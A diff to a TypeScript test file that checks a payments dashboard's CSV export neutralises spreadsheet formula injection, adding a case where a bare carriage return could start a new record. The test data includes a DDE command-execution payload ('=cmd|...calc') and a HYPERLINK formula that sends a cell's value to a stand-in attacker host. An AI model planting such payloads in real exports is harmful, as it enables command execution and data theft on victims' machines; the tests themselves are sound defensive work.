@@ -52,7 +52,9 @@ const cents = (text: string) => {
 };
 
 const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
-let ids: { hostile: string; failed: string; refunded: string; newShop: string };
+/** A name whose bare CR starts a new record, first cell a formula, for a reader that takes CR as a line break. */
+const CR_NAME = "Zed\r=cmd|' /C calc'!A0";
+let ids: { hostile: string; failed: string; refunded: string; newShop: string; crName: string };
 
 beforeAll(async () => {
   const hostile = await pay(seller.apiKey, 1234, {
@@ -62,6 +64,7 @@ beforeAll(async () => {
   });
   const failed = await pay(seller.apiKey, 2000, { customer_email: 'bob@example.org', customer_name: 'Bob, "the builder"' }, '4000000000000002');
   const refunded = await pay(seller.apiKey, 10_000, { customer_email: 'carol@example.net' });
+  const crName = await pay(seller.apiKey, 700, { customer_email: 'zed@example.com', customer_name: CR_NAME });
   const support = await adminClient(service, AdminRole.SUPPORT);
   const finance = await adminClient(service, AdminRole.FINANCE);
   const { requestRefund } = await support.ok('mutation ($p: ID!) { requestRefund(paymentId: $p, reason: "returned", amount: 4000) { id } }', { p: refunded });
@@ -71,7 +74,7 @@ beforeAll(async () => {
   await dashboard(service.url, 'DeleteMyShop', { shopName: 'Dashboard Shop' }, seller.session);
   const created = await dashboard(service.url, 'CreateMyShop', { shopName: 'Second Shop' }, seller.session);
   const newShop = await pay(created.body.data.createMyShop.apiKey, 5000, { customer_email: 'dan@example.com' });
-  ids = { hostile, failed, refunded, newShop };
+  ids = { hostile, failed, refunded, newShop, crName };
   // A withdrawal: verified address, payout account, then the request.
   await sql('update "sellers" set "email_verified_at" = now() where "id" = ?', [seller.sellerId]);
   await dashboard(service.url, 'SetPayoutAccount', { holder: '=Harbour Books', accountNumber: 'DE89370400440532013000', currentPassword: STRONG_PASSWORD }, seller.session);
@@ -113,6 +116,14 @@ test('cells a spreadsheet would run as a formula are prefixed with a quote; numb
   // A field holding a quote, comma or line break is quoted, its quotes doubled.
   expect(text).toContain('"Bob, ""the builder"""');
   for (const row of rows) for (const cell of Object.values(row)) expect([cell, /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)]).toEqual([cell, false]);
+});
+
+test('a bare CR in a cell neither ends the record nor lets the line after it start a formula', async () => {
+  const { text, rows } = await download('/dashboard/exports/payments.csv');
+  expect(rows.find((r) => r.id === ids.crName)!.customer_name).toBe("Zed\r'=cmd|' /C calc'!A0");
+  expect(text).toContain('"Zed\r\'=cmd|\' /C calc\'!A0"');
+  // A reader that takes any CR or LF as the end of a line: no line begins, past a quote and white space, with a formula.
+  for (const line of text.split(/\r\n|\r|\n/)) expect([line, /^"?\s*[=+\-@]/.test(line)]).toEqual([line, false]);
 });
 
 test("payments.csv takes the screen's filters (status, text, dates): the same payments as the Payments screen", async () => {
